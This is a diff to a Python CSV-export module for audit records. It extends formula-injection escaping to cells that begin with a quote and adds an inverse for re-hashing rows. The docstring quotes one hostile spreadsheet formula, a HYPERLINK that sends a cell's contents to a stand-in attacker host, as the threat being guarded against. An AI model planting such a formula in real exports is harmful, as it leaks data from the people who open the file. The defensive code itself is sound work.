@@ -5,7 +5,10 @@ with a tab or a carriage return can be made to do the same after trimming. Reaso
 and business keys are typed by people (or arrive from other systems), so a value like
 =HYPERLINK("http://evil.example/?x="&A1,"click") would turn the auditor's export into a live
 link or worse. Such a cell gets a leading single quote, which spreadsheets show as text and
-which keeps the value otherwise intact. Every CSV writer goes through csv_lines.
+which keeps the value otherwise intact. So does a cell that begins with a quote of its own,
+so that the quote can be taken back without doubt (cell_value): an auditor re-hashing a row
+reads each cell so, and a record whose reason is "-1 duplicate" hashes as it was made.
+Every CSV writer goes through csv_lines.
 """
 
 import csv
@@ -13,6 +16,8 @@ import json
 from collections.abc import Iterable, Iterator
 
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+# A cell's own leading quote is quoted too: the prefix is then always one to take back.
+QUOTED_PREFIXES = (*FORMULA_PREFIXES, "'")
 
 # After the hash, the rest of what it covers: an auditor re-hashes each row of an export
 # (audit.chain.record_hash) without the database, and sees the evidence `data` holds (the
@@ -22,11 +27,18 @@ AUDIT_HEADER = ["id", "run", "seq", "time", "actor", "action", "step", "reason",
 
 
 def neutralise_cell(value) -> str:
-    """The cell's text, prefixed with ' when a spreadsheet would read it as a formula."""
+    """The cell's text, prefixed with ' when a spreadsheet would read it as a formula or
+    it begins with a quote itself."""
     text = "" if value is None else str(value)
-    if text.startswith(FORMULA_PREFIXES):
+    if text.startswith(QUOTED_PREFIXES):
         return "'" + text
     return text
+
+
+def cell_value(cell: str) -> str:
+    """The text a cell of these files was written from: its one leading quote, if any, taken
+    back (neutralise_cell's inverse)."""
+    return cell[1:] if cell.startswith("'") else cell
 
 
 class _Echo:
